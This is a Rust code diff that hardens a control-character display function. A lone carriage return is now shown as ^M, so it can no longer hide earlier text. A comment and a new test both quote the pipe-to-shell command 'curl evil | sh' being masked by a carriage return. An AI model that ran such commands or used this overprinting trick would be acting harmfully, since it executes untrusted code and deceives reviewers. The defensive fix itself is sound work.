@@ -14,8 +14,8 @@ pub fn shell_quote(path: &std::path::Path) -> String {
     format!("'{}'", s.replace('\'', "'\\''"))
 }
 
-/// `text` with its control characters visible: C0 controls as `^X` (but tab, newline and carriage
-/// return when `lines` keeps them), DEL as `^?`, and C1 controls (U+0080 to U+009F, two bytes in
+/// `text` with its control characters visible: C0 controls as `^X` (but tab, newline and a carriage
+/// return before a newline when `lines` keeps them), DEL as `^?`, and C1 controls (U+0080 to U+009F, two bytes in
 /// UTF-8) as `M-^X`. Nothing else changes, so text in any language reads as it was written.
 pub fn visible(text: &[u8], lines: Lines) -> Vec<u8> {
     let mut out = Vec::with_capacity(text.len());
@@ -23,7 +23,10 @@ pub fn visible(text: &[u8], lines: Lines) -> Vec<u8> {
     while i < text.len() {
         let b = text[i];
         match b {
-            b'\t' | b'\n' | b'\r' if lines == Lines::Kept => out.push(b),
+            b'\t' | b'\n' if lines == Lines::Kept => out.push(b),
+            // A line's end only: a carriage return alone would let the rest of the line print over
+            // what came before it (`curl evil | sh\rmake test` showed as `make test`).
+            b'\r' if lines == Lines::Kept && text.get(i + 1) == Some(&b'\n') => out.push(b),
             0x00..=0x1f => out.extend_from_slice(&[b'^', b + 0x40]),
             0x7f => out.extend_from_slice(b"^?"),
             0xc2 if matches!(text.get(i + 1), Some(0x80..=0x9f)) => {
@@ -61,5 +64,9 @@ mod tests {
         );
         assert_eq!(name("x\ny\r\u{1b}]0;t\u{7}"), "x^Jy^M^[]0;t^G");
         assert_eq!(name("résumé 日本"), "résumé 日本");
+        assert_eq!(
+            visible(b"curl evil | sh\rmake test\r\n", Lines::Kept),
+            b"curl evil | sh^Mmake test\r\n".to_vec()
+        );
     }
 }
